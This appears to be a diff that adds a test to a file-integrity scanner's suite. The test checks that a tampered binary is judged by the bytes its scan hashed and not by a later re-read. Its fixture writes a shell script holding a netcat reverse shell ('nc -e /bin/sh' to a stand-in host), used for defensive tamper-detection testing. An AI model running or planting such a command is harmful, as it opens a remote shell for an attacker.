@@ -75,6 +75,24 @@ describe("package attribution of scanned files", () => {
     expect((byKey(fourth.entries).get(host.path("bin/hello")) as AttributedEntry).packageShipped).toBe(false);
   });
 
+  it("judges a changed file by the bytes its scan hashed, not by reading it again", async () => {
+    const { writeFileSync } = await import("node:fs");
+    const rules = [rule(host.path("bin"))];
+    writeFileSync(host.path("bin/hello"), SHIPPED);
+    const baseline = await scanLocalFiles(rules, {});
+    const tampered = "#!/bin/sh\necho hello; nc -e /bin/sh evil 4444\n";
+    writeFileSync(host.path("bin/hello"), tampered);
+    // The shipped bytes are put back after the scan read the file and before attribution: the MD5 judged is the one
+    // taken in the scan's read, so the tampered content it recorded is not passed off as the package's.
+    const packages = () => (writeFileSync(host.path("bin/hello"), SHIPPED), loadDpkgIndex(db.root));
+    const scanned = byKey((await scanLocalFiles(rules, { packages, previous: byKey(baseline.entries) })).entries);
+    expect(scanned.get(host.path("bin/hello"))).toMatchObject({
+      sha256: createHash("sha256").update(tampered).digest("hex"),
+      packageName: "hello",
+      packageShipped: false,
+    });
+  });
+
   it("finds no database where there is none", () => {
     expect(loadDpkgIndex(host.root)).toBeNull();
   });
